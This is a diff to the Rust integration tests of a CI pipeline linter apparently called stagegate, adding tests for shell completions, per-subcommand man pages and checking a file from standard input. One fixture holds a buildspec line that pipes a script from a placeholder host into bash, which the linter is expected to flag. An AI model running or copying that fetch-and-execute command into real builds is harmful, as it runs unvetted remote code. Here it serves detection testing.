@@ -337,8 +337,60 @@ fn init_writes_a_valid_config_and_integrations_pass_their_own_check() {
     let o = stagegate(&["check", "integrations"]);
     assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
     assert!(stdout(&o).contains("in 1 file"));
-    assert!(stdout(&stagegate(&["completions", "bash"])).contains("stagegate"));
     assert!(stdout(&stagegate(&["man"])).contains(".TH stagegate"));
+}
+
+/// Policy ids complete where an id is asked for (`explain` in bash and zsh, `--select` and
+/// `--ignore` in every shell clap writes for).
+#[test]
+fn completions_offer_the_policy_ids() {
+    for shell in ["bash", "zsh", "fish"] {
+        let script = stdout(&stagegate(&["completions", shell]));
+        for id in ["build-without-sca", "buildspec-remote-script"] {
+            assert!(script.contains(id), "{shell}: {id} missing");
+        }
+        if shell != "fish" {
+            assert!(script.contains("waiver-not-allowed"), "{shell}");
+        }
+    }
+}
+
+/// `stagegate man SUB` prints SUB's own page, `--dir` writes them all, and each has an
+/// EXIT STATUS section.
+#[test]
+fn every_subcommand_has_a_man_page_with_its_exit_status() {
+    let dir = std::env::temp_dir().join(format!("stagegate-man-{}", std::process::id()));
+    let o = stagegate(&["man", "--dir", dir.to_str().unwrap()]);
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let mut pages: Vec<String> = std::fs::read_dir(&dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
+        .collect();
+    pages.sort();
+    for page in &pages {
+        let text = std::fs::read_to_string(dir.join(page)).unwrap();
+        assert!(text.contains(".SH \"EXIT STATUS\""), "{page}");
+        assert!(text.contains(".SH \"SEE ALSO\""), "{page}");
+    }
+    std::fs::remove_dir_all(&dir).ok();
+    for sub in [
+        "check", "audit", "merge", "test", "explain", "policies", "init",
+    ] {
+        assert!(pages.contains(&format!("stagegate-{sub}.1")), "{pages:?}");
+        let page = stdout(&stagegate(&["man", sub]));
+        assert!(page.contains(&format!(".TH stagegate-{sub} 1")), "{page}");
+    }
+    // the root page links to pages that now exist
+    let root_page = stdout(&stagegate(&["man"]));
+    assert!(root_page.contains("stagegate\\-check(1)"), "{root_page}");
+    let check = stdout(&stagegate(&["man", "check"]));
+    assert!(check.contains("\\-\\-fail\\-on"));
+    assert_eq!(stagegate(&["man", "nope"]).status.code(), Some(2));
 }
 
 fn audit_corpus(name: &str) -> PathBuf {
@@ -830,4 +882,61 @@ fn an_unknown_select_id_names_the_flag() {
         err.contains("--select no-such-policy: no policy has this id"),
         "{err}"
     );
+}
+
+fn stagegate_with_stdin(args: &[&str], input: &[u8]) -> Output {
+    use std::io::Write as _;
+    let mut child = Command::new(env!("CARGO_BIN_EXE_stagegate"))
+        .args(args)
+        .current_dir(root())
+        .env_remove("CI")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    stdin.write_all(input).unwrap();
+    drop(stdin);
+    child.wait_with_output().unwrap()
+}
+
+#[test]
+fn check_dash_reads_one_file_from_standard_input() {
+    let pipeline = std::fs::read(root().join("fixtures/e2e/seed-violating/pipeline.yaml")).unwrap();
+    let o = stagegate_with_stdin(
+        &[
+            "check",
+            "-",
+            "-f",
+            "concise",
+            "--stdin-filename",
+            "ci/pipeline.yaml",
+        ],
+        &pipeline,
+    );
+    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
+    assert!(
+        stdout(&o).contains("ci/pipeline.yaml:232:15: error[build-without-sca]"),
+        "{}",
+        stdout(&o)
+    );
+    // a buildspec is known by its name or its content; the default name is <stdin>
+    let o = stagegate_with_stdin(
+        &["check", "-", "-f", "concise"],
+        b"version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://x.example/i.sh | bash\n",
+    );
+    assert!(
+        stdout(&o).contains("<stdin>:5:9: warning[buildspec-remote-script]"),
+        "{}",
+        stdout(&o)
+    );
+    // nothing, not text, or not an input: the check is incomplete
+    for bad in [&b""[..], b"\xff\xfe", b"foo: 1\n"] {
+        let o = stagegate_with_stdin(&["check", "-"], bad);
+        assert_eq!(o.status.code(), Some(2), "{bad:?}: {}", stdout(&o));
+    }
+    let o = stagegate_with_stdin(&["check", "-", "fixtures/e2e/seed"], b"version: 0.2\n");
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("checked alone"));
 }
